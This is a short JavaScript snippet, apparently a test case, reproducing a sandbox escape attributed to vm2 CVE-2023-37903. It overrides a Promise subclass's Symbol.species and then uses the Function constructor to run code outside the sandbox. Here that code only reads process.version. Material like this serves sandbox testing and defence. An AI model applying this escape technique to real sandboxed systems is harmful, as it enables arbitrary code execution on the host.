// Symbol.species of a promise that our code chains.
// Source: vm2, CVE-2023-37903.
class Mine extends Promise { static get [Symbol.species]() { return function (executor) { executor((x) => x, (x) => x) } } }
await Mine.resolve(1).then((x) => x)?.constructor;
return (() => {}).constructor("return process.version")()
